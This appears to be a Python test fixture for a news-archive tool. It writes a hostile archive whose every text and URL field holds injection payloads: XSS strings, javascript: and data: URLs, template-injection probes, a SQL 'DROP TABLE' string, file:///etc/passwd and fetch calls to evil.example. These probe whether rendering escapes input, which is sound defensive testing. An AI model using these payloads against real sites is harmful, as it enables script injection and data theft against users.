"""An archive whose every text and address tries to run, to load or to leave, written through the real store.

``TEXTS`` are put into every field that holds a text, ``ADDRESSES`` into every one that holds an address: one article,
one card and one picture for each. Whatever gets to run marks the page (``RAN``) and asks ``EVIL`` for something.
"""

from __future__ import annotations

import datetime as dt
from dataclasses import replace
from pathlib import Path

from archiver.model import Alternate, Article, Author, Evidence, Image, Teaser
from archiver.store.archive import open_archive
from archiver.urls import normalise_url
from support.archives import SITE, START, Clock, Desk

EVIL = "https://evil.example"
#: of JavaScript in a page: whether a script got to run
RAN = "() => document.documentElement.dataset.owned !== undefined || window.owned !== undefined"

_RUN = f"document.documentElement.dataset.owned=window.owned=1;fetch(`{EVIL}/fetch`);alert(1)"
_LONG_WORD = "Donaudampfschifffahrtsgesellschaft" * 30

TEXTS = (
    f"<script>{_RUN}</script>",
    f'"><script src="{EVIL}/s.js"></script>',
    f"'><img src=x onerror='{_RUN}'>",
    f'<img src="{EVIL}/a.png" srcset="{EVIL}/b.png 2x" onload="{_RUN}">',
    f"</title><script>{_RUN}</script><title>",
    f"</textarea></select></option><script>{_RUN}</script>",
    f"</style><style>@import '{EVIL}/i.css'; * {{ background: url({EVIL}/bg.png) }}</style>",
    f'</script><script>{_RUN}</script>{{"a": "</script>"}}',
    f"<svg onload='{_RUN}'><script>{_RUN}</script><image href='{EVIL}/svg.png'/></svg>",
    f"<svg><style><img src=x onerror='{_RUN}'></style></svg><math><mtext><mglyph><style><img src=x onerror='{_RUN}'>",
    f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe><object data='{EVIL}/o'></object>",
    f'<base href="{EVIL}/"><meta http-equiv="refresh" content="0; url={EVIL}/refresh"><link rel=stylesheet href="{EVIL}/c">',
    f'<form action="{EVIL}/form"><input autofocus onfocus="{_RUN}"><button formaction="javascript:{_RUN}">Go</button>',
    f'<details open ontoggle="{_RUN}"><summary>More</summary></details><video autoplay src="{EVIL}/v" onerror="{_RUN}">',
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" style="animation:x" x="',
    f"' onclick='{_RUN}' style='background:url({EVIL}/st.png)' x='",
    f"` onload=`{_RUN}`",
    f"{{{{ config }}}} {{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x }}}}{{% endfor %}} ${{{_RUN}}} <%= 7*7 %> #{{7*7}}",
    "{{ 7*7 }}{% raw %}{# comment #}{% endraw %}{% block content %}gone{% endblock %}",
    f"<![CDATA[<script>{_RUN}</script>]]> <!-- <script>{_RUN}</script> --> --!> <?php echo 1 ?>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62; &amp;lt;b&amp;gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e \\x3cscript\\x3e",
    f"<ins>forged</ins><del>forged</del><mark>forged</mark></mark></ins><script>{_RUN}</script>",
    f"[link](javascript:{_RUN}) ![picture]({EVIL}/md.png) <{EVIL}/auto>",
    f"javascript:{_RUN}",
    f"{EVIL}/looks/like/an/address?a=1&b=<script>",
    "\u202eelpmaxe.live//:sptth\u202c \u2066\u202d right to left \u200f\u200e\u2069",
    "zero\0byte \x01\x02\x1b[31mcontrols\x7f \ufeff\u2028\u2029\ufffe",
    _LONG_WORD,
    "'; DROP TABLE articles; -- \" OR 1=1 /*",
    "🏴\u200d☠️👩\u200d👩\u200d👧\u200d👦 Z̸̢̛̫͙͈̲͖a̴̛̫͙l̷̡̛͖g̶̢̛̫o̸̧̢ " + "e\u0301" * 40,
    f"<a href='javascript:{_RUN}'>one</a> <a href='{EVIL}' ping='{EVIL}/ping' target=_top>two</a>",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}//https://www.courrier-du-lac.example/",
    f" \x01java\nscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example/relative",
    f'{EVIL}/"><script>{_RUN}</script>',
    f"{EVIL}/' onclick='{_RUN}",
    f"https://user:pass@evil.example/?q=</a><img src=x onerror={_RUN}>",
    "http://[::1",
    "",
)


def write_hostile_archive(path: Path) -> Path:
    """The same path, with an archive of hostile articles, revisions, cards and placements of one hostile source."""
    clock = Clock(START)
    with open_archive(path, clock=clock) as archive:
        archive.add_source(SITE, name=TEXTS[0] + TEXTS[4], language="fr")
        archive.add_source(f"{EVIL}/</title><script>{_RUN}</script>", name=TEXTS[5])
        desk = Desk(archive, clock, archive.sources()[0])
        run = archive.begin_run("crawl", [*TEXTS, *ADDRESSES])
        for _ in range(2):  # each text is edited once, so that there is a difference to show
            _save_all(desk)
            clock.pass_hours(2)
        archive.end_run(run, outcome=TEXTS[0], exit_code=1)
    return path


def _save_all(desk: Desk) -> None:
    hour = desk.clock.now.isoformat()
    pages = [desk.read(_address(n, text), _article(n, text, hour)) for n, text in enumerate(TEXTS)]
    front = Article(kind="listing", teasers=tuple(_card(n, text, hour) for n, text in enumerate(TEXTS)))
    home = desk.read("/", front)
    desk.save(*pages, replace(home, capture=replace(home.capture, media_type=TEXTS[0])))


def _address(number: int, text: str) -> str:
    """Where the hostile text stands, spelled as a crawl would hand it on."""
    return normalise_url(f"{SITE}/h/{number}?{text[:200]}")


def _article(number: int, text: str, hour: str) -> Article:
    address = ADDRESSES[number % len(ADDRESSES)]
    return Article(
        kind="article",
        canonical_url=address,
        alternates=(Alternate(language=text, url=address),),
        title=text,
        headline=text,
        published=dt.datetime(2025, 8, 11, 9, 0, tzinfo=dt.UTC),
        byline=text,
        authors=(Author(name=text, role=text, affiliation=text),),
        lead=f"{text} {hour}",
        body=f"{text}\n\nA paragraph that stays.\n\n{text} {hour}",
        language=text,
        section=text,
        tags=(text,),
        images=(_picture(address, text, "main"), _picture(None, text, "inline")),
        site_name=text,
        is_paywalled=True,
        teasers=tuple(_card(n, text, hour) for n in range(3)),
        evidence=tuple(Evidence(field=name, value=text, raw=text, source=text, rule=text) for name in ("title", text)),
    )


def _picture(address: str | None, text: str, role: str) -> Image:
    status = "placeholder" if address else "missing"
    return Image(url=address, alt=text, caption=text, credit=text, role=role, status=status, placeholder_text=text)


def _card(number: int, text: str, hour: str) -> Teaser:
    """A hostile card; every third one promotes the hostile article of the same text, every other one leads elsewhere."""
    address = ADDRESSES[number % len(ADDRESSES)]
    return Teaser(
        position=number,
        region="listing" if number % 2 else "aside",
        block=1 + number % 2,
        block_heading=text,
        title=f"{text} {hour}" if number % 5 == 0 else text,
        kicker=text,
        url=_address(number, text) if number % 3 == 0 else address,
        excerpt=text,
        byline=text,
        image_url=address,
        image_alt=text,
        image_status="placeholder" if number % 2 else "missing",
        placeholder_text=text,
    )
